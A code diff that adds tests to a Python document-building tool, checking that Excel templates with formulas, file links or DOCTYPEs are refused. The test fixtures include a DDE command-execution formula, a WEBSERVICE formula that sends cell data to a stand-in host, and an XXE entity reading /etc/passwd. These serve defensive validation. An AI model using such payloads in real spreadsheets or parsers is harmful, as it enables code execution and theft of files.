@@ -16,6 +16,7 @@ from agreement.cli import main
 from agreement.pipeline import build
 from agreement.resources import EDITIONS
 from tests.conftest import ROOT, copy_build, pdf_text, replace_line
+from tests.zipbomb import repack
 
 BUILT_IN = EDITIONS / "lbf-2019-26"
 # One of LBF's fixed sentences on the "Aftaledokumenter" page of the strategic agreement.
@@ -161,3 +162,59 @@ def test_every_built_in_edition_loads() -> None:
     for name, (folder, origin) in editions.available().items():
         edition = editions.load_edition(folder, origin)
         assert edition.name == name and edition.focus_areas and origin == editions.BUILT_IN
+
+
+# -- the edition's workbook: a form to fill, no formulas ------------------------------------------
+
+
+def _workbook(path: Path, *formulas: str, link: str | None = None) -> None:
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    ws = wb.active
+    for c, text in enumerate(["Indikator", "Indsatsområde", "Målværdi"], start=1):
+        ws.cell(row=6, column=c, value=text)
+    for r, formula in enumerate(formulas, start=8):
+        ws.cell(row=r, column=1, value=formula)
+    if link is not None:
+        ws["B2"].hyperlink = link
+    ws.print_area = "A1:C20"  # a defined name that is a plain reference, as LBF's form may have
+    wb.save(path)
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.org/?"&A1)', '=HYPERLINK("file:///c:/x","klik")',
+            "=SUM(A1:A2)"]
+
+
+def test_formulas_in_the_edition_workbook_are_refused_at_their_cell(content: Path, tmp_path: Path) -> None:
+    local = _local_edition(content)
+    _workbook(local / "indberetningsskema.xlsx", *FORMULAS)
+    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
+    assert result.exit_code == 1
+    lines = result.output.splitlines()
+    for row, formula in enumerate(FORMULAS, start=8):
+        assert (f"indberetningsskema.xlsx: the part xl/worksheets/sheet1.xml has a formula (A{row}: {formula[:41]}"
+                in result.output), result.output
+    assert lines[-1] == "4 problems found in the templates"
+    out = tmp_path / "out"
+    result = CliRunner().invoke(main, ["build", "--content", str(content), "--out", str(out), "--format", "docx", "-q"])
+    assert result.exit_code == 1 and "has a formula (A8: =cmd|" in result.output
+    assert "Traceback" not in result.output and not (out / "manifest.json").exists()
+
+
+def test_a_workbook_linking_to_a_file_or_holding_a_doctype_is_refused(content: Path) -> None:
+    local = _local_edition(content)
+    _workbook(local / "indberetningsskema.xlsx", link="file:///etc/passwd")
+    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
+    assert result.exit_code == 1
+    assert ("indberetningsskema.xlsx: the part xl/worksheets/sheet1.xml links to 'file:///etc/passwd' outside the "
+            "file (hyperlink)") in result.output
+    _workbook(local / "indberetningsskema.xlsx", link="https://lbf.dk/")
+    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
+    assert result.exit_code == 0, result.output
+    repack(local / "indberetningsskema.xlsx", local / "doctype.xlsx", {"xl/workbook.xml": lambda data: data.replace(
+        b"<workbook", b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook', 1)})
+    (local / "doctype.xlsx").replace(local / "indberetningsskema.xlsx")
+    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
+    assert result.exit_code == 1
+    assert "indberetningsskema.xlsx: the part xl/workbook.xml has a DOCTYPE" in result.output
